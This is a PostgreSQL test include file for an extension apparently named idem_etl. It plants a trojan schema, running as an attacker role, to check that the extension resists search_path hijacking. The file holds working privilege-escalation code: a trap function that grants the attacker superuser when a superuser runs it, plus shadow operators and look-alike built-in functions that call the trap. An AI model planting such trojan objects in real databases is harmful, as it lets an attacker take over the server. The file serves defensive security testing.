\set ECHO none
-- Included by sql/security_*.sql after "\set trojan_schema NAME" (not
-- echoed; ECHO is back to all at its end).  Run as the attacker.
--
-- Plants, in schema NAME, a trap: NAME.trap(what) logs current_user into
-- NAME.log (writable by everybody) and, when it runs as a superuser, makes
-- the attacker (idem_test_attacker) a superuser.  Then plants an operator
-- NAME.op(l, r) for every operator idem_etl uses on the types it touches,
-- each calling the trap before doing what pg_catalog's does, and functions
-- named like the built-ins idem_etl calls.  A test then checks that the
-- attacker is not superuser and that no trap ran as another role.
CREATE TABLE :"trojan_schema".log (who name, what text);
GRANT INSERT, SELECT ON :"trojan_schema".log TO PUBLIC;
SELECT set_config('idem_test.trojan', :'trojan_schema', false) \gset
DO $plant$
DECLARE
    s text := pg_catalog.current_setting('idem_test.trojan');
    o record;
    n int := 0;
BEGIN
    EXECUTE pg_catalog.format(
        'CREATE FUNCTION %I.trap(what text) RETURNS void LANGUAGE plpgsql AS $f$'
        ' BEGIN INSERT INTO %I.log VALUES (current_user, what);'
        ' IF (SELECT rolsuper FROM pg_catalog.pg_roles'
        '     WHERE rolname OPERATOR(pg_catalog.=) current_user) THEN'
        ' ALTER ROLE idem_test_attacker SUPERUSER; END IF; END $f$', s, s);
    FOR o IN
        SELECT p.oprname, p.oprleft::regtype AS l, p.oprright::regtype AS r, p.oprresult::regtype AS res
          FROM pg_catalog.pg_operator p
         WHERE p.oprnamespace OPERATOR(pg_catalog.=) 'pg_catalog'::regnamespace
           AND (p.oprname, p.oprleft::regtype::text, p.oprright::regtype::text) IN (
               SELECT x, l, r FROM pg_catalog.unnest(ARRAY['=', '<>', '<', '<=', '>', '>=']) x,
                      pg_catalog.unnest(ARRAY['text', 'bigint', 'integer', 'oid', 'name', '"char"',
                                              'timestamp with time zone', 'timestamp without time zone',
                                              'date', 'interval', 'boolean']) l(l),
                      LATERAL (SELECT l) r(r)
               UNION ALL SELECT '>=', 'bigint', 'integer'
               UNION ALL SELECT x, 'timestamp with time zone', 'interval' FROM pg_catalog.unnest(ARRAY['+', '-']) x
               UNION ALL SELECT x, 'timestamp without time zone', 'interval' FROM pg_catalog.unnest(ARRAY['+', '-']) x
               UNION ALL SELECT '-', 'timestamp with time zone', 'timestamp with time zone'
               UNION ALL SELECT x, l, l FROM pg_catalog.unnest(ARRAY['+', '-', '%', '*']) x,
                                           pg_catalog.unnest(ARRAY['bigint', 'integer', 'double precision']) l
               UNION ALL SELECT '||', 'text', 'text')
    LOOP
        n := n OPERATOR(pg_catalog.+) 1;
        EXECUTE pg_catalog.format(
            'CREATE FUNCTION %I.op_%s(a %s, b %s) RETURNS %s LANGUAGE plpgsql AS $f$'
            ' BEGIN PERFORM %I.trap(%L); RETURN a OPERATOR(pg_catalog.%s) b; END $f$',
            s, n, o.l, o.r, o.res, s, pg_catalog.format('%s %s %s', o.l, o.oprname, o.r), o.oprname);
        EXECUTE pg_catalog.format('CREATE OPERATOR %I.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %I.op_%s)',
                                  s, o.oprname, o.l, o.r, s, n);
    END LOOP;
    -- varchar has no operators of its own: an exact match beats pg_catalog's
    -- text = text even with pg_catalog first in the search_path
    EXECUTE pg_catalog.format(
        'CREATE FUNCTION %I.op_varchar(a varchar, b varchar) RETURNS boolean LANGUAGE plpgsql AS $f$'
        ' BEGIN PERFORM %I.trap(''varchar = varchar''); RETURN a::text OPERATOR(pg_catalog.=) b::text; END $f$', s, s);
    EXECUTE pg_catalog.format('CREATE OPERATOR %I.= (LEFTARG = varchar, RIGHTARG = varchar, FUNCTION = %I.op_varchar)', s, s);
    -- functions idem_etl calls, under their built-in names
    EXECUTE pg_catalog.format('CREATE FUNCTION %I.now() RETURNS timestamptz LANGUAGE plpgsql AS $f$'
        ' BEGIN PERFORM %I.trap(''now()''); RETURN pg_catalog.now(); END $f$', s, s);
    EXECUTE pg_catalog.format('CREATE FUNCTION %I.clock_timestamp() RETURNS timestamptz LANGUAGE plpgsql AS $f$'
        ' BEGIN PERFORM %I.trap(''clock_timestamp()''); RETURN pg_catalog.clock_timestamp(); END $f$', s, s);
    EXECUTE pg_catalog.format('CREATE FUNCTION %I.quote_ident(text) RETURNS text LANGUAGE plpgsql AS $f$'
        ' BEGIN PERFORM %I.trap(''quote_ident()''); RETURN pg_catalog.quote_ident($1); END $f$', s, s);
    EXECUTE pg_catalog.format('CREATE FUNCTION %I.count_step(bigint) RETURNS bigint LANGUAGE plpgsql AS $f$'
        ' BEGIN PERFORM %I.trap(''count(*)''); RETURN $1 OPERATOR(pg_catalog.+) 1; END $f$', s, s);
    EXECUTE pg_catalog.format('CREATE AGGREGATE %I.count(*) (SFUNC = %I.count_step, STYPE = bigint, INITCOND = 0)', s, s);
    EXECUTE pg_catalog.format('CREATE FUNCTION %I.min_step(text, text) RETURNS text LANGUAGE plpgsql AS $f$'
        ' BEGIN PERFORM %I.trap(''min(text)''); RETURN LEAST($1, $2); END $f$', s, s);
    EXECUTE pg_catalog.format('CREATE AGGREGATE %I.min(text) (SFUNC = %I.min_step, STYPE = text)', s, s);
END
$plant$;
\set ECHO all
